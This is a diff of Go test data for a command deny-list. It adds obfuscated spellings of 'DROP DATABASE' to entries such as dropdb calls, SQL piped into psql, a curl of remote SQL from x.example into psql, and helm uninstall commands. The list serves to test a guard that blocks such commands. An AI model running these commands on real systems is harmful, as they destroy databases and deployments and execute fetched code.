@@ -113,7 +113,8 @@ var denyVariants = map[string][]string{
 		`psql -c "$SQL"`, `psql --comm="DROP DATABASE app"`, "dropdb app", "dropdb --if-exists app", "sudo -u postgres dropdb app",
 		`/usr/lib/postgresql/16/bin/dropdb app`, `psql -c "SELECT 1; DROP DATABASE app"`,
 		`echo "DROP DATABASE app" | psql`, `psql <<< "drop database app"`, "psql -d postgres <<'SQL'\nDROP DATABASE app;\nSQL",
-		`curl -s https://x.example/q.sql | psql`,
+		`curl -s https://x.example/q.sql | psql`, `psql -c "DROP  DATABASE app"`, "psql -c $'DROP\\tDATABASE app'",
+		"psql -c 'DROP\n  DATABASE app'",
 	},
 	"no-uninstall": {
 		"helm uninstall web", "helm uninstall web -n prod", "helm -n prod uninstall web", "helm delete web",
